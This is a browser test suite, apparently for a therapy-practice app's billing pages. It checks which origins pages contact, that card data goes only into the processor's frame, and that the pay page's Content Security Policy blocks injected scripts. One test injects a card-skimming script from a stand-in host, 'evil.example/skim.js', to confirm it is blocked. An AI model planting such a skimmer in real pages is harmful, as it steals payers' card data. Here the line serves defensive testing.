"""Tests which origins pages send requests to, and what the pay page loads."""

import json
import re
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect

from infra.build.package import ROOT
from localstack.demo import CLIENTS, JORDAN
from tests.browser import page_actions
from tests.browser.page_actions import heading

AVERY = CLIENTS[0]
INVENTORY = ROOT / "tests" / "browser" / "pay_inventory.json"
OWN_FIELDS = "document.querySelectorAll('input, select, textarea').length"
VARYING = {"content-length", "date", "etag", "last-modified"}
CARDLIKE = (
    "input[autocomplete^='cc-']:not([autocomplete='cc-name']), input[name*='card'],"
    " input[inputmode='numeric']"
)
STAFF_PAGES = {
    "admin": (
        "/admin/billing",
        "/admin/billing/setup",
        "/admin/services",
        "/admin/team",
        "/admin/practice",
        "/admin/baa",
    ),
    "provider": (
        "/provider/calendar",
        "/provider/clients",
        "/account",
        "/help",
        "/help/home-screen",
    ),
}


@pytest.fixture
def paying(windows, practice):
    """
    Open the pay page as Avery, and wait for the card fields.

    Return the browser's page and the HTTP response that delivered it.
    """
    invoice = practice.sent(description="Session")
    page = windows.open(practice, AVERY, "/client")
    answer = page.goto(f"/pay/stripe?invoice={invoice}")
    expect(page.frame_locator("iframe").get_by_label("Card number")).to_be_visible()
    return page, answer


def test_no_page_of_staff_talks_to_anybody_else(windows, practice):
    """S31: pages of staff send requests only to our own origin."""
    for role, paths in STAFF_PAGES.items():
        page = windows.open(practice, JORDAN, paths[0], role=role)
        for path in paths:
            page.goto(path)
            heading(page, "")
            expect(page.locator(".skeleton")).to_have_count(0)
    assert windows.console.origins == {windows.url}


def test_no_page_of_a_client_but_pay_talks_to_anybody_else(windows, practice):
    """S31: only the pay page sends requests to an origin that is not our own."""
    page = windows.open(practice, AVERY, "/client")
    for path in ("/client", "/client/appointments", "/client/invoices", "/account", "/help"):
        page.goto(path)
        heading(page, "")
        expect(page.locator(".skeleton")).to_have_count(0)
    page.goto("/client/invoices")
    page.get_by_role("table").get_by_role("link").first.click()
    expect(page.get_by_role("region", name="What happened")).to_be_visible()
    assert windows.console.origins == {windows.url}


def test_cards_are_typed_only_into_the_processors_own_frame(paying, windows, cloud):
    """S47: our page has no field for a card, and no card number reaches our server."""
    page, _ = paying
    assert page.locator(CARDLIKE).count() == 0
    assert page.evaluate(OWN_FIELDS) == 1
    frames = [frame.url for frame in page.frames if frame != page.main_frame]
    assert frames
    assert all(url.startswith(f"{cloud.stripe_url}/") for url in frames)
    page_actions.type_card(page)
    page_actions.pay(page, "$125.00")
    heading(page, "Paid $125.00")
    ours = [request for request in windows.console.requests if request.url.startswith(windows.url)]
    assert not [
        request.url for request in ours if "4242" in re.sub(r"\D", "", request.post_data or "")
    ]


def test_the_pay_page_loads_what_the_inventory_lists_and_nothing_else(paying, windows, cloud):
    """
    S48: the pay page's scripts and headers are exactly those in the inventory.

    The inventory gives the reason for each script. A new script or a changed header
    fails this test until somebody adds it to the inventory.
    """
    page, answer = paying
    inventory = json.loads(INVENTORY.read_text(encoding="utf-8"))
    assert [_normalized(script, windows, cloud) for script in _scripts(page)] == [
        each["script"] for each in inventory["scripts"]
    ]
    assert all(each["reason"] for each in inventory["scripts"])
    headers = {
        name: _normalized(value, windows, cloud)
        for name, value in answer.headers.items()
        if name not in VARYING
    }
    assert headers == inventory["headers"]
    assert not re.search(r"unsafe-|\*|http:|blob:", headers["content-security-policy"])


def test_the_pay_page_talks_to_us_and_the_processor_alone(paying, windows, cloud):
    """S49: the pay page sends requests only to our origin and the processor's."""
    page, _ = paying
    assert windows.console.origins == {windows.url, cloud.stripe_url}
    scripts = {urlsplit(script).netloc for script in _scripts(page)}
    assert scripts == {urlsplit(windows.url).netloc, urlsplit(cloud.stripe_url).netloc}


def test_the_pay_pages_policy_stops_a_foreign_script_and_an_inline_one(paying, windows):
    """S48, S49: injected scripts do not run."""
    page, _ = paying
    page.evaluate("""() => {
        const source = {src: 'https://evil.example/skim.js'};
        const changes = [source, {textContent: 'window.skimmed = true'}];
        for (const change of changes)
            document.head.append(Object.assign(document.createElement('script'), change));
    }""")
    assert page.evaluate("window.skimmed") is None
    violations = [text for text in windows.console.messages if "Content Security Policy" in text]
    assert len(violations) == 2
    windows.console.messages.clear()


def _scripts(page):
    """Return the URL or inline text of every script element, in order."""
    return page.evaluate(
        "[...document.scripts].map((script) => script.src || `inline: ${script.textContent}`)"
    )


def _normalized(text, windows, cloud):
    """Replace the parts of a script or header that differ between builds and runs."""
    normalized = text.replace(cloud.stripe_url, "PROCESSOR").replace(windows.url, "OURS")
    return re.sub(r"-[\w-]{8}\.js", "-HASH.js", normalized)
